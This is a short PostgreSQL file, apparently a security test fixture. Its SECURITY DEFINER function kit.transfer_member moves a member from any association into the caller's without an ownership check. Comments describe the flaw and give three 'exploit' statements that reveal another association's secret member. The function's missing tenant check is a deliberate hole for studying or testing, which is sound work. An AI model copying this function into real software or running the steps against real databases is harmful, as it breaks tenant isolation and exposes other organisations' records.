-- The transfer runs as owner and takes the member from any association, not only from the caller's.
-- about: transfer_member, members
-- as: hf_kitlocker_app
-- exploit: SET kit.association = '1';
-- exploit: SELECT kit.transfer_member(200, 10);
-- exploit: SELECT full_name FROM kit.members;
-- shows: Valley-secret member
CREATE FUNCTION kit.transfer_member(member integer, to_club integer) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = kit, pg_temp AS $$
BEGIN
  -- A member leaves all teams of the old club.
  DELETE FROM kit.team_members WHERE member_no = member;
  UPDATE kit.members SET association_id = kit.current_association(), club_no = to_club
  WHERE member_no = member;
END $$;
GRANT EXECUTE ON FUNCTION kit.transfer_member(integer, integer) TO hf_kitlocker_app;
